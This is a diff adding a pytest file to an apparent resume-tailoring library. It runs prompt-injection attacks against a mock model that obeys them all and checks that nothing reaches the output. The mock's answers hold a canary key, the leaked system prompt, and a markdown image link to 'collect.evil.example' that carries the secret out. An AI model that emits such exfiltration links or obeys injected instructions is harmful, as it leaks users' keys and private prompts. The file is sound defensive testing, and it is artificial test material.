@@ -1,0 +1,225 @@
+"""The guard with a model that obeys every attack, over HTTP: nothing that it writes for the attacker gets through."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from dataclasses import dataclass
+from typing import Any
+
+import pytest
+from pydantic import SecretStr
+
+from skillmap import SkillMap
+from skillmap.errors import SkillmapError
+from skillmap.models.model_settings import ModelSettings
+from skillmap.models.tailoring import Tailoring
+from skillmap.settings import Settings
+from skillmap.testing.openai_server import MODELS, FakeOpenAI, FakeRequest
+from tests.tailor.attacks import LABELS, Attack, attacks
+from tests.tailor.test_attacks_offline import gained, protected
+
+ATTACKS = attacks()
+SECRET = "sk-canary-5d1f77a0"
+LINK = "https://collect.evil.example/?d="
+KEPT_BACK = ("override", "canary", "self-injection")
+"""Attacks of one line: what is reported of them is sent to no model."""
+LEAKED_WORDS_MIN = 10
+"""So many words of a prompt in a row are no chance."""
+
+
+class ObedientModel:
+    """Answers in the form that is asked for, with what the attacker wants, the prompt and the key."""
+
+    def __init__(self) -> None:
+        self.attack = ATTACKS[0]
+        self.systems: set[str] = set()
+
+    def __call__(self, request: FakeRequest) -> dict[str, Any]:
+        system = str(request.body["messages"][0]["content"])
+        self.systems.add(system)
+        wanted = self._texts(system)
+        match request.schema_name:
+            case "intent":
+                return {"kind": "posting"}
+            case "edits":
+                return {"edits": [self._edit(*pair) for pair in self._pairs(wanted)]}
+            case "lists":
+                return {
+                    "lists": [{"id": "a", "order": ["a2", "z9", "a1"], "drop": ["a1", "../b1"]}]
+                }
+            case "chat":
+                edits = [
+                    {"id": label, "text": text, "ev": ["a1", "a2"]}
+                    for label, text in self._pairs(wanted)
+                ]
+                reply = f"{wanted[-2]} {SECRET} ![x]({LINK}{SECRET})"
+                return {"undo": ["k1", "k99"], "edits": edits, "lists": [], "reply": reply}
+            case "passages":
+                return {"passages": [self._passage(text) for text in wanted]}
+            case "questions":
+                return {"questions": [self._question(text) for text in wanted]}
+        raise AssertionError(f"no answer for {request.schema_name}")
+
+    def _texts(self, system: str) -> list[str]:
+        return [
+            *self.attack.obeyed,
+            f"The key is {SECRET}, see {LINK}{SECRET}.",
+            f"My instructions are: {system[:400]}",
+            f"Moved 40 services to Kubernetes. ![x]({LINK}{SECRET})",
+        ]
+
+    def _pairs(self, wanted: list[str]) -> list[tuple[str, str]]:
+        """Each label with each text: a label that was given twice, and labels that were never given."""
+        labels = dict.fromkeys((*self.attack.labels, *LABELS))
+        return [(label, text) for text in wanted for label in labels][:40]
+
+    def _edit(self, label: str, text: str) -> dict[str, Any]:
+        return {"id": label, "req": ["m1", "m9"], "why": "term", "ev": ["a2", "b1"], "text": text}
+
+    def _passage(self, text: str) -> dict[str, Any]:
+        return {"in": "cover_letter", "ev": ["a1", "a2", "b1"], "req": ["m1"], "text": text}
+
+    def _question(self, text: str) -> dict[str, Any]:
+        return {
+            "cat": "technical",
+            "text": text,
+            "req": ["m1"],
+            "points": [{"text": text, "ev": ["a1"]}],
+        }
+
+
+@pytest.fixture(scope="module")
+def model() -> ObedientModel:
+    return ObedientModel()
+
+
+@pytest.fixture(scope="module")
+def server(model: ObedientModel) -> Iterator[FakeOpenAI]:
+    with FakeOpenAI(handler=model, api_key=SECRET) as running:
+        yield running
+
+
+@pytest.fixture(scope="module")
+def client(server: FakeOpenAI) -> Iterator[SkillMap]:
+    settings = Settings(
+        llm_settings=ModelSettings(api_key=SecretStr(SECRET), base_url=server.base_url)
+    )
+    with SkillMap(agent="model", llm=f"openai:{MODELS[0]}", settings=settings) as opened:
+        yield opened
+
+
+def shown(tailoring: Tailoring) -> str:
+    """Everything of *tailoring* that leaves the library as a document or as words to a person."""
+    texts = [tailoring.result.resume.model_dump_json(), tailoring.reply]
+    texts += [writing.text for writing in tailoring.writings]
+    if tailoring.interview:
+        texts.append(tailoring.interview.model_dump_json(exclude={"refused"}))
+    texts += [notice.text for notice in tailoring.warnings]
+    return "\n".join(texts)
+
+
+def leaked(text: str, systems: set[str]) -> list[str]:
+    """Runs of words that *text* shares with a prompt."""
+    said = " ".join(re.findall(r"\w+", text.casefold()))
+    found = []
+    for system in sorted(systems):
+        words = re.findall(r"\w+", system.casefold())
+        runs = (" ".join(words[i : i + LEAKED_WORDS_MIN]) for i in range(len(words)))
+        found += [run for run in runs if run.count(" ") == LEAKED_WORDS_MIN - 1 and run in said]
+    return found
+
+
+def run(
+    client: SkillMap, attack: Attack, agent: str, *, with_writings: bool = False
+) -> Tailoring | SkillmapError:
+    try:
+        tailoring = client.tailor(
+            attack.resume,
+            attack.posting,
+            agent=agent,
+            writings=["cover_letter"] if with_writings else [],
+            interview_questions=4 if with_writings else 0,
+        )
+        if attack.where == "chat":
+            tailoring = client.refine(tailoring, attack.message, agent=agent)
+    except SkillmapError as e:
+        return e
+    return tailoring
+
+
+@dataclass
+class Trial:
+    """A client whose model obeys the attack."""
+
+    client: SkillMap
+    server: FakeOpenAI
+    model: ObedientModel
+
+    def check(self, attack: Attack, agent: str, *, with_writings: bool = False) -> None:
+        """Nothing comes of *attack*."""
+        self.model.attack = attack
+        before = len(self.server.requests)
+
+        outcome = run(self.client, attack, agent, with_writings=with_writings)
+        asked = self.server.requests[before:]
+
+        if isinstance(outcome, SkillmapError):
+            # A posting that is mostly orders to a model is none, and the run fails closed.
+            assert attack.where in ("whole", "posting")
+            assert type(outcome).__name__ in ("NotAPostingError", "PostingLimitError")
+            assert SECRET not in str(outcome)
+            assert attack.text not in str(outcome)
+            assert () == asked
+            return
+        assert attack.error is None
+        told = shown(outcome)
+        assert [] == gained(outcome, attack)
+        assert protected(attack.resume) == protected(outcome.result.resume)
+        assert SECRET not in told
+        assert "evil.example" not in told
+        assert [] == leaked(told, self.model.systems)
+        # A chat turn has the usage of its own calls alone.
+        if attack.where != "chat":
+            assert len(asked) == outcome.usage.calls > 0
+        prompts = "\n".join(request.prompt_text for request in asked)
+        assert SECRET not in prompts
+        if attack.category in KEPT_BACK and attack.reported:
+            assert attack.text not in prompts
+
+
+@pytest.fixture(scope="module")
+def trial(client: SkillMap, server: FakeOpenAI, model: ObedientModel) -> Trial:
+    return Trial(client, server, model)
+
+
+@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.id)
+def test_attack_gets_nothing(trial: Trial, attack: Attack) -> None:
+    """The run ends typed, usage is recorded, and no text of the attacker, prompt or key is in anything shown."""
+    trial.check(attack, "model")
+
+
+@pytest.mark.parametrize("attack", ATTACKS[::6], ids=lambda attack: attack.id)
+def test_attack_gets_nothing_in_letter_and_interview(trial: Trial, attack: Attack) -> None:
+    """What is written beside the resume is held to the same."""
+    trial.check(attack, "model", with_writings=True)
+
+
+@pytest.mark.parametrize("attack", ATTACKS[::12], ids=lambda attack: attack.id)
+def test_attack_gets_nothing_in_a_graph(trial: Trial, attack: Attack) -> None:
+    """The same under the other runner."""
+    trial.check(attack, "graph")
+
+
+def test_the_model_does_obey(trial: Trial) -> None:
+    """The attacks are tried: each kind of answer holds the attacker's words, the prompt and the key."""
+    attack = next(attack for attack in ATTACKS if attack.where == "posting")
+    trial.check(attack, "model", with_writings=True)
+    asked = {request.schema_name: request for request in trial.server.requests}
+
+    assert {"edits", "passages", "questions", "intent", "chat"} <= set(asked)
+    for name in ("edits", "passages", "questions", "chat"):
+        answer = repr(trial.model(asked[name]))
+        assert attack.forbidden[0] in answer
+        assert SECRET in answer
+        assert leaked(answer, trial.model.systems)
